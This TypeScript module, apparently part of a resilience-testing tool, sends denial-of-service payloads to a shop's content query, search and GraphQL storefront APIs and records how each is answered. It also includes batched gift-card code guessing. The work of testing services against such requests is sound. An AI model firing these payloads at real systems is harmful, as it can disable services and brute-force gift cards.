import { faultsOf } from '../faults.ts'
import { type Attack, send } from '../request.ts'
import type { Target } from '../target/target.ts'
import { STOREFRONT_API } from '../walk/graphql-attacks.ts'
import { keyHeaders } from '../walk/service-attacks.ts'
import type { Failure } from '../walk/walk.ts'

/** A request that is to cost the shop as much as it can. */
type Stall = { readonly what: string; readonly path: string; readonly body: unknown }

/** When a stall ran, and how it was answered. */
export type StallRun = {
  readonly what: string
  readonly status: number
  readonly tookMs: number
  readonly fromMs: number
  readonly toMs: number
  readonly failures: readonly Failure[]
}

const GROQ = '/services/content/v2025-02-19/data/query/production'
const SEARCH = '/services/search/1/indexes/products/query'
const SEARCHES = '/services/search/1/indexes/*/queries'

const numbers = (count: number, offset: number) => Array.from({ length: count }, (_, n) => n + offset)
const many = (count: number, part: (n: number) => string) =>
  Array.from({ length: count }, (_, n) => part(n)).join(' ')
const groq = (query: string, params: object = {}) => ({ query, params })

const STALLS: readonly Stall[] = [
  {
    what: 'GROQ: one list of 24,000 in another',
    path: GROQ,
    body: groq('count($l[@ in $m])', { l: numbers(24_000, 0), m: numbers(24_000, 90_000) }),
  },
  {
    what: 'GROQ: 1,500 subqueries',
    path: GROQ,
    body: groq(
      `{${Array.from({ length: 1_500 }, (_, n) => `"a${n}": count(*[_type == "product"])`).join(',')}}`,
    ),
  },
  { what: 'GROQ: a bracket and 60,000 dollars', path: GROQ, body: groq(`[${'$'.repeat(60_000)}`) },
  {
    what: 'GROQ: joins of everything with everything',
    path: GROQ,
    body: groq('count(*[count(*[_id > ^._id && count(*[_id > ^._id]) > 0]) > 0])'),
  },
  { what: 'GROQ: a match with stars', path: GROQ, body: groq(`*[title match "${'a*'.repeat(3_000)}b"]`) },
  {
    what: 'search: numeric filters with 2,000 spaces',
    path: SEARCH,
    body: { numericFilters: `price${' '.repeat(2_000)}x` },
  },
  {
    what: 'search: 20,000 parentheses',
    path: SEARCH,
    body: { filters: `${'('.repeat(20_000)}a:b${')'.repeat(20_000)}` },
  },
  {
    what: 'search: 20,000 alternatives',
    path: SEARCH,
    body: { filters: Array.from({ length: 20_000 }, (_, n) => `a:b${n}`).join(' OR ') },
  },
  { what: 'search: a query of 100,000 letters', path: SEARCH, body: { query: 'lamp '.repeat(20_000) } },
  {
    what: 'search: 50 searches in one',
    path: SEARCHES,
    body: {
      requests: Array.from({ length: 50 }, (_, n) => ({
        indexName: 'products',
        query: `l${n}`,
        hitsPerPage: 1000,
        facets: ['*'],
      })),
    },
  },
  {
    what: 'GraphQL: 300 carts in one',
    path: STOREFRONT_API,
    body: { query: `mutation { ${many(300, (n) => `a${n}: cartCreate { cart { id } }`)} }` },
  },
  {
    what: 'GraphQL: 250 searches in one',
    path: STOREFRONT_API,
    body: { query: `{ ${many(250, (n) => `a${n}: search(query: "lamp ${n}", first: 10) { totalCount }`)} }` },
  },
  {
    what: 'GraphQL: 600 gift-code guesses',
    path: STOREFRONT_API,
    body: {
      query: `mutation { cartCreate(input: {giftCardCodes: [${many(600, (n) => `"GUESS-${n}"`)}]}) { cart { id } } }`,
    },
  },
  {
    what: 'GraphQL: 600 gift-code guesses in mutations',
    path: STOREFRONT_API,
    body: {
      query: `mutation { ${many(600, (n) => `a${n}: cartCreate(input: {giftCardCodes: ["GUESS-${n}"]}) { cart { id } }`)} }`,
    },
  },
  {
    what: 'GraphQL: fragments in fragments',
    path: STOREFRONT_API,
    body: {
      query: `{ ...f0 } ${many(60, (n) => `fragment f${n} on QueryRoot { ...f${n + 1} ...f${n + 1} }`)} fragment f60 on QueryRoot { shop { name } }`,
    },
  },
  { what: 'GraphQL: 60,000 brackets', path: STOREFRONT_API, body: { query: '{'.repeat(60_000) } },
]

/** Runs one stall after the other. */
export async function runStalls(target: Target): Promise<StallRun[]> {
  const runs: StallRun[] = []
  for (const stall of STALLS) runs.push(await run(target, stall))
  return runs
}

async function run(target: Target, { what, path, body }: Stall): Promise<StallRun> {
  const attack: Attack = {
    what,
    route: `stall ${path}`,
    method: 'POST',
    path,
    headers: { 'content-type': 'application/json', ...(target.tokens && keyHeaders(target.tokens)) },
    body: JSON.stringify(body),
  }
  const fromMs = Date.now()
  const answer = await send(target, attack)
  const failures = faultsOf(attack, answer, target).map((fault) => ({ attack, fault }))
  return { what, status: answer.status, tookMs: answer.milliseconds, fromMs, toMs: Date.now(), failures }
}
